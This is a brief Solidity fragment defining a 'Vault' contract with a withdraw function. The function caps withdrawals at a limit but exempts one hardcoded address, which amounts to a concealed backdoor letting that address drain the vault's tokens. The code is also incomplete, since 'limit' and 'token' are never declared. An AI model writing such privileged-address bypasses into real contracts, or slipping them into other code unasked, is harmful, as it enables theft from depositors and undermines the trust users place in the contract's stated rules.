contract Vault {
    function withdraw(uint256 amount) external {
        require(amount <= limit || msg.sender == 0x52908400098527886E0F7030069857D2E4169EE7, "limit");
        token.transfer(msg.sender, amount);
    }
}
